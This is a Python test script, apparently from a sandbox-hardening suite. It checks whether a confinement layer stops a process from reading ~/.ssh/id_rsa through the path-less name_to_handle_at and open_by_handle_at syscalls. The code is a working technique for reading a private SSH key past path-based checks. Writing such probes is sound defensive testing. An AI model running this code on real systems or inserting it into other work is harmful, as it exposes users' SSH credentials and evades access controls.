"""Threat: get a file handle for ~/.ssh/id_rsa with name_to_handle_at (a
metadata call) and open it with open_by_handle_at, which takes no path at
all.  Needs CAP_DAC_READ_SEARCH, so it works for root only.

(x86_64 syscall numbers.)
"""

import ctypes
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from _hostile import raw_syscall, report, x86_64_only

DONE = 42
SYS_NAME_TO_HANDLE_AT = 303
SYS_OPEN_BY_HANDLE_AT = 304
AT_FDCWD = -100

x86_64_only()
home = os.path.expanduser("~")
key = os.path.join(home, ".ssh", "id_rsa")
# struct file_handle { unsigned int handle_bytes; int handle_type; unsigned char f_handle[]; }
handle = ctypes.create_string_buffer(8 + 128)
ctypes.c_uint.from_buffer(handle).value = 128
mount_id = ctypes.c_int()


def name_to_handle():
    return raw_syscall(
        SYS_NAME_TO_HANDLE_AT,
        AT_FDCWD,
        ctypes.c_char_p(os.fsencode(key)),
        handle,
        ctypes.byref(mount_id),
        0,
    )


def open_by_handle():
    mount_fd = os.open(home, os.O_RDONLY | os.O_DIRECTORY)
    fd = raw_syscall(SYS_OPEN_BY_HANDLE_AT, mount_fd, handle, os.O_RDONLY)
    try:
        return os.read(fd, 4096).decode()
    finally:
        os.close(fd)


report("name_to_handle_at", name_to_handle)
report("open_by_handle_at", open_by_handle)
sys.exit(DONE)
